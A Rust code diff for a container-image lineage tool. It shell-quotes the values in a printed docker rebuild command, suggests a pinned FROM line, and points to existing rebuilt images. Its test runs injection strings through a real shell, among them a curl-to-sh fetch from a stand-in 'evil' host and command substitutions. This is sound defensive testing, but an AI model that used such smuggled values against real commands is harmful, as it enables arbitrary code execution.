@@ -358,6 +358,12 @@ pub struct StaleRow {
     pub commit: Option<String>,
     /// Rebuilds the same commit on the newest base (see [`rebuild_command`]).
     pub rebuild: Option<String>,
+    /// The `FROM` line that moves the Dockerfile to the newest base: `--pull` alone keeps a
+    /// base pinned by digest where it is.
+    pub from_line: String,
+    /// A recorded build of the same commit on the newest base that does not run in this
+    /// environment yet: deploy it instead of rebuilding.
+    pub rebuilt: Option<String>,
     /// The CI run that built the running digest, to re-run it instead.
     pub ci_url: Option<String>,
 }
@@ -411,6 +417,9 @@ pub struct StaleReport {
 /// while the checkout pins the application source; a changed parent invalidates the layer
 /// cache above it, so no `--no-cache` is needed. `lineage build diff OLD NEW --expect
 /// base-only` then proves nothing else changed. `None` when the commit is unknown.
+///
+/// Every value from the record is shell-quoted: the command is meant to be copied into a
+/// shell, and a Dockerfile path is whatever the pipeline reported.
 pub fn rebuild_command(build: &BuildRecord) -> Option<String> {
     let commit = build.commit.as_ref()?;
     let dockerfile = build
@@ -418,9 +427,54 @@ pub fn rebuild_command(build: &BuildRecord) -> Option<String> {
         .as_ref()
         .map_or("Dockerfile", |d| d.path.as_str());
     Some(format!(
-        "git checkout {commit} && docker build --pull -f {dockerfile} -t {} .",
-        build.image
+        "git checkout {} && docker build --pull -f {} -t {} .",
+        shell_quote(commit.as_str()),
+        shell_quote(dockerfile),
+        shell_quote(&build.image.to_string())
     ))
+}
+
+/// `value` as one POSIX shell word: unchanged when it holds only safe characters, else in
+/// single quotes (with `'` written as `'\''`), so nothing in it is expanded or run.
+pub fn shell_quote(value: &str) -> String {
+    let safe = !value.is_empty()
+        && value
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./-_".contains(c));
+    if safe {
+        value.to_string()
+    } else {
+        format!("'{}'", value.replace('\'', "'\\''"))
+    }
+}
+
+/// A recorded build of `build`'s service and commit whose final base is `newest`, and that
+/// does not run in `env`: the fix is already built, it only needs deploying.
+fn rebuilt_on(
+    store: &dyn Store,
+    build: &BuildRecord,
+    newest: &str,
+    env: &EnvName,
+) -> Result<Option<String>, Error> {
+    let Some(commit) = &build.commit else {
+        return Ok(None);
+    };
+    for candidate in store.builds_of_service(&build.service, 50)? {
+        let on_newest = candidate
+            .final_base()
+            .and_then(|b| b.digest.as_ref())
+            .is_some_and(|d| d.to_string() == newest);
+        if on_newest && candidate.commit.as_ref() == Some(commit) {
+            let here = store
+                .deploys_of_digest(&candidate.digest)?
+                .iter()
+                .any(|d| d.env == *env);
+            if !here {
+                return Ok(Some(candidate.digest.to_string()));
+            }
+        }
+    }
+    Ok(None)
 }
 
 /// `lineage report stale`: one row per (service, environment) whose running digest was built
@@ -526,6 +580,8 @@ pub fn stale(
                 .map(|i| i.to_string()),
             commit: build.commit.as_ref().map(|c| c.to_string()),
             rebuild: rebuild_command(build),
+            from_line: format!("FROM {base_tag}@{}", history[0].digest),
+            rebuilt: rebuilt_on(store, build, &history[0].digest, &deploy.env)?,
             ci_url: build.ci.as_ref().and_then(|c| c.url.clone()),
         });
     }
@@ -677,7 +733,19 @@ pub fn render_text(r: &StaleReport) -> String {
             short(&row.newest_base_digest)
         );
         let _ = writeln!(out, "  owner     {}", owners_line(row));
-        let _ = writeln!(out, "  rebuild   {}", rebuild_line(row));
+        match &row.rebuilt {
+            Some(d) => {
+                let _ = writeln!(
+                    out,
+                    "  ready     {} is built on the new base: deploy it",
+                    short(d)
+                );
+            }
+            None => {
+                let _ = writeln!(out, "  pin       {}", row.from_line);
+                let _ = writeln!(out, "  rebuild   {}", rebuild_line(row));
+            }
+        }
     }
     let _ = writeln!(out);
     let _ = writeln!(out, "{}", footer_counts(r));
@@ -1167,6 +1235,31 @@ pub fn render_diff_text(d: &BuildDiff, expect_base_only: bool) -> String {
 
 #[cfg(test)]
 mod tests {
+
+    /// What the report prints as a command runs as that command: hostile text stays one
+    /// inert word (issue 14).
+    #[test]
+    fn quoted_words_survive_a_real_shell() {
+        for hostile in [
+            "Dockerfile;curl${IFS}evil|sh;#",
+            "it's $(touch pwned) `id` \\ \"q\"",
+            "plain/Dockerfile.prod",
+            "",
+            "new\nline",
+        ] {
+            let out = std::process::Command::new("sh")
+                .arg("-c")
+                .arg(format!("printf %s {}", shell_quote(hostile)))
+                .output()
+                .unwrap();
+            assert_eq!(String::from_utf8(out.stdout).unwrap(), hostile);
+        }
+        assert_eq!(
+            shell_quote("plain/Dockerfile.prod"),
+            "plain/Dockerfile.prod"
+        );
+    }
+
     use super::*;
     use lineage_model::{BaseImage, CommitId, DockerfileRef, ServiceName};
 
